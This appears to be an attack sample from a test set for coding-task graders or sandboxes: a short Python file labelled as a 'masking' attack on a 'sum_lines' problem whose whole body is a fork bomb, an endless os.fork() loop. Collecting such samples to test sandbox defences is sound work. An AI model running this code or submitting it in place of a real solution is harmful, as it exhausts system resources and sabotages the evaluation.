# kind: attack
# category: masking
# problem: sum_lines
# Forks until something gives
import os

while True:
    os.fork()
